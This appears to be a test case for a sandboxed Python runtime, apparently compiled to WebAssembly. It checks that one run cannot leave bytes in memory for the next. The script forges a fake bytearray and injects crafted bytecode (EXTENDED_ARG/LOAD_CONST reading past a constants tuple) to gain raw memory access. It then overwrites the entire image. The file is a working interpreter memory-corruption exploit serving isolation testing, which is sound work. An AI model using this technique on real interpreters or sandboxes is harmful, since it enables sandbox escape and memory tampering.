# title: Every page of the image overwritten
# tries: to leave bytes of its own in each page of memory that the next run gets
# ends: trapped unreachable | trapped memory_out_of_bounds | trapped bad_indirect_call | trapped guest_fault

import opcode, struct

op = opcode.opmap
HEADER = bytes.__basicsize__ - 1

def victim():
    return 1

while True:
    consts = tuple(None for _ in range(3))
    forged = struct.pack("<IIiIIIi", 1 << 29, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0) + bytes(64)
    table = struct.pack("<I", id(forged) + HEADER) * 256
    distance = (id(table) + HEADER + 512 - id(consts) - tuple.__basicsize__) // 4
    if 0 < distance < 1 << 30:
        break
    kept = [consts, forged, table, globals().get("kept")]
parts = []
for shift in (24, 16, 8):
    parts += [op["EXTENDED_ARG"], distance >> shift & 255]
victim.__code__ = victim.__code__.replace(co_code=bytes([op["RESUME"], 0] + parts + [op["LOAD_CONST"], distance & 255, op["RETURN_VALUE"], 0]), co_consts=consts)
memory = victim()
# In one go, from the end of memory down over everything that the interpreter needs to go on.
piece = b"poison! " * (1 << 17)
for start in range(32 << 20, 0, -len(piece)):
    memory[start:start + len(piece)] = piece
